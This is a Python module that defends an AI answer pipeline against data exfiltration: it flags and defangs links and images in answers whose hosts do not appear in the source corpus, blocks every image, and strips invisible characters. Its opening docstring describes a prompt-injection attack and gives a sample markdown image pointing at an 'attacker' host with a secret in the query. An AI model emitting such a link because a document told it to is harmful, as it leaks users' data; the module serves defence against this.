"""Links in an answer: flag those to hosts the corpus never mentions, and never leave one fetchable or live.

A document can tell a model to answer with ``![x](https://attacker/collect?q=<secret>)``: a front end that renders
the image fetches the URL and the data leaves. Every markdown image, markdown link, autolink and bare URL in an
answer whose host does not occur in the text that was sent to the model, and every image, is *suspicious*: listed in
``Answer.suspicious_links`` (JSON ``suspicious_links``) and rewritten in the answer text as inert text
(``[image blocked: host]``, ``label (link to host, not in the corpus: hxxps://host/...)``). Images are blocked even
when their host is in the corpus: an answer has no reason to make a reader's screen fetch anything.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterable

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^>\s]+)>")
_BARE = re.compile(r"(?<![\w/\"'(<\[])((?:https?|ftp)://[^\s)\]>\"'`]+)")
_HOST_IN_TEXT = re.compile(r"(?i)\b((?:[a-z0-9](?:[a-z0-9\-]{0,61}[a-z0-9])?\.)+[a-z]{2,63})\b")


def host_of(url: str) -> str:
    try:
        return (urllib.parse.urlsplit(url.strip()).hostname or "").lower()
    except ValueError:
        return ""


def corpus_hosts(texts: Iterable[str]) -> set[str]:
    """Every host name that occurs in ``texts`` (in a URL or not: ``docs.python.org`` in prose counts)."""
    hosts: set[str] = set()
    for text in texts:
        hosts.update(h.lower() for h in _HOST_IN_TEXT.findall(text))
    return hosts


def _defanged(url: str) -> str:
    return re.sub(r"^(h)t(tp)", r"\1x\2", re.sub(r"^(ftp)", "fxp", url)).replace("://", "[://]", 1)


def neutralize_links(text: str, known_hosts: set[str]) -> tuple[str, tuple[str, ...]]:
    """``text`` with every image made inert and every link to an unknown host made inert; the flagged URLs."""
    flagged: list[str] = []

    def flag(url: str) -> None:
        if url not in flagged:
            flagged.append(url)

    def image(m: re.Match[str]) -> str:
        alt, url = m.group(1), m.group(2)
        host = host_of(url) or "an unknown host"
        flag(url)  # every image: rendering one fetches it, whatever the host
        return f"[image blocked: {alt or 'image'} ({host})]"

    def link(m: re.Match[str]) -> str:
        label, url = m.group(1), m.group(2)
        host = host_of(url)
        if not host or host in known_hosts:
            return m.group(0)
        flag(url)
        return f"{label} (link to {host}, not in the corpus: {_defanged(url)})"

    def bare(m: re.Match[str]) -> str:
        url = m.group(1).rstrip(".,;:!?")  # the sentence's full stop is not part of the URL
        tail = m.group(1)[len(url) :]
        host = host_of(url)
        if not host or host in known_hosts:
            return m.group(0)
        flag(url)
        return f"{_defanged(url)} (not in the corpus){tail}"

    out = _IMAGE.sub(image, text)
    out = _LINK.sub(link, out)
    out = _AUTOLINK.sub(lambda m: bare(m) if host_of(m.group(1)) not in known_hosts else m.group(0), out)
    out = _BARE.sub(bare, out)
    return out, tuple(flagged)


_LINK_MAY_CONTINUE = re.compile(r"!$|!?\[[^\]\n]*$|!?\[[^\]\n]*\]$|!?\[[^\]\n]*\]\([^)\n]*$|<(?:https?|ftp)[^>\s]*$")


def link_may_continue(partial: str) -> bool:
    """Whether streamed text ends inside what may still become an image or a link (hold it back until it is whole)."""
    return _LINK_MAY_CONTINUE.search(partial) is not None


def inert_markup(text: str) -> str:
    """Streamed answer text with no image and no live link: a stream cannot know yet which hosts the corpus holds,
    so images are blocked and markdown links shown as ``label (url)`` text; the final Answer.text keeps the links
    to hosts the corpus mentions (``neutralize_links``)."""

    def image(m: re.Match[str]) -> str:
        return f"[image blocked: {m.group(1) or 'image'} ({host_of(m.group(2)) or 'an unknown host'})]"

    out = _IMAGE.sub(image, text)
    out = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})" if host_of(m.group(2)) else m.group(0), out)
    return _AUTOLINK.sub(lambda m: m.group(1), out)


_ZERO_WIDTH = re.compile("[\u200b\u200c\u200d\u2060\ufeff\u202a-\u202e\u2066-\u2069]")


def strip_invisible(text: str) -> str:
    """Zero-width and bidi-control characters removed: they hide words from a reader (and tokens from a
    scanner) while a model still reads them."""
    return _ZERO_WIDTH.sub("", text)


def count_invisible(text: str) -> int:
    return len(_ZERO_WIDTH.findall(text))


__all__ = [
    "corpus_hosts",
    "count_invisible",
    "host_of",
    "inert_markup",
    "link_may_continue",
    "neutralize_links",
    "strip_invisible",
]
